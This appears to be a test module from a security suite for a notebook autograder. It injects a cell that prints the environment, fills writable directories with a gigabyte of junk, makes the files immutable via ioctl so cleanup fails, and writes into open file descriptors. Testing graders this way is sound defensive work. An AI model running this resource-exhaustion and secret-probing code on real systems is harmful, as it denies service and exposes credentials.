"""Exhaust the machine: write a gigabyte to every writable place, make files immutable
(``chattr +i`` through ``fcntl.ioctl``) so that the cleanup cannot delete them, open every
descriptor in sight for writing, print the environment (which must hold nothing of the
grader's). The kernels are honest, but the matmul_svd answer cell writes its junk into
the pipes of its own runner while it loads: that cell is skipped, its task gets nothing."""

from attacks import add_cell, append_to_answer, deserved
from attacks._escape import ESCAPE

STUDENT = "attack_resources"
DESERVED = deserved(precision_matmul_svd=0)

FILL = (
    ESCAPE
    + """
import array as _array
import fcntl as _fcntl
import os as _os

print("ENVIRONMENT:", dict(_os.environ))
for _folder in [_os.getcwd(), "/tmp", "/submission", "/dev/shm", "/run/dnnk"]:
    try:
        with open(_folder + "/filler.bin", "wb") as _handle:
            for _ in range(1024):
                _handle.write(b"x" * (1 << 20))
    except Exception as _error:
        print("fill", _folder, "stopped:", type(_error).__name__)
    try:
        _fd = _os.open(_folder + "/filler.bin", _os.O_RDONLY)
        _fcntl.ioctl(_fd, 0x40086602, _array.array("l", [0x10]))  # FS_IOC_SETFLAGS, immutable
        print("immutable", _folder)
    except Exception as _error:
        print("immutable", _folder, "refused:", type(_error).__name__)
for _fd in range(3, 256):
    try:
        _os.write(_fd, b"student was here\\n")
        print("wrote to descriptor", _fd)
    except OSError:
        pass
"""
)


def build(ctx):
    nb = append_to_answer(ctx.solution, "precision_matmul_svd", FILL)
    return add_cell(nb, FILL)
